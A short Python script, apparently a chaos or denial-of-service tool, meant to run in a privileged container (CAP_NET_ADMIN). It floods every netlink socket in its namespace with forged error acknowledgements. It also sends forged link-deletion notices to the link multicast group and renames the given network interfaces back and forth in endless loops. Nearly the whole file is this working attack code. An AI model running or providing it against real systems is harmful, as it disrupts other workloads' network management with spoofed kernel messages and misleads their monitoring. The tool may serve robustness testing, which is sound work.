"""A container with CAP_NET_ADMIN that fills what others read in its sandbox, until it is killed. Usage: flooding-pod.py LINK ...

Sends forged acknowledgements to every netlink socket of its namespace and forged news to those that follow links, as fast as they are taken,
and renames each LINK in a loop. Looks at a link that keeps its name are not over at once.
"""
import os
import socket
import struct
import subprocess
import sys

RTM_DELLINK, NLMSG_ERROR, RTMGRP_LINK = 17, 2, 1


def flood():
    flooder = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    news = struct.pack("=IHHII", 32, RTM_DELLINK, 0, 0, 0) + struct.pack("=BxHiII", 0, 0, 1 << 20, 0, 0)
    answer = struct.pack("=IHHII", 36, NLMSG_ERROR, 0, 1, 0) + bytes(20)
    while True:
        with open("/proc/self/net/netlink") as sockets:
            ports = [int(line.split()[2]) for line in sockets.readlines()[1:]]
        for _ in range(100):
            for target in [(0, RTMGRP_LINK), *((port, 0) for port in ports if port != 0)]:
                try:
                    flooder.sendto(news if target[0] == 0 else answer, socket.MSG_DONTWAIT, target)
                except OSError:
                    pass


def rename(link):
    there_and_back = f"link set {link} name x{link}\nlink set x{link} name {link}\n"
    while True:
        subprocess.run(["/usr/sbin/ip", "-force", "-batch", "-"], input=there_and_back * 500, text=True, capture_output=True)


for link in sys.argv[1:]:
    if os.fork() == 0:
        rename(link)
flood()
